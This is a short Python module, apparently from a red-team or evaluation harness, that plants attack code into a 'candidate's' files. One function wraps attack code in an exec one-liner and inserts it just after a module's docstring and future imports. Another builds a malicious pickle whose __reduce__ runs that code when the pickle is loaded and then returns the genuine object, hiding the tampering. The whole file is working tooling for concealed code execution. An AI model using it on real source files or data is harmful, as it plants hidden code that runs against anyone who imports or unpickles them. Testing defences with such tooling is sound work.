"""Putting an attack into a candidate's file: one line of Python, or a pickle that runs it."""

import ast
import builtins
import pickle
from collections.abc import Callable

from overnight.attack.foreign.catalogue import prelude


def line(code: str, knows: dict[str, object]) -> str:
    """One line that runs an attack with what it knows, apart from the candidate's own names."""
    return f"exec(compile({prelude() + code!r}, '<attack>', 'exec'), {knows!r})\n"


def put_into(source: str, inserted: str) -> str:
    """A module with one line more: after its docstring and its imports from the future, which must stay first."""
    tree = ast.parse(source)
    after = 0
    for node in tree.body:
        is_text = isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant)
        if not is_text and not (isinstance(node, ast.ImportFrom) and node.module == "__future__"):
            break
        after = node.end_lineno or after
    lines = source.splitlines(keepends=True)
    if after and not lines[after - 1].endswith("\n"):
        lines[after - 1] += "\n"
    return "".join([*lines[:after], inserted, *lines[after:]])


def bomb(honest: bytes, inserted: str) -> bytes:
    """A pickle that runs the line where it is loaded, and then gives the honest object."""
    return pickle.dumps(_Bomb(honest, inserted), protocol=4)


class _Bomb:
    def __init__(self, data: bytes, inserted: str) -> None:
        self.data, self.inserted = data, inserted

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        code = f"(exec({self.inserted!r}, {{}}), __import__('pickle').loads({self.data!r}))[1]"
        return builtins.eval, (code,)
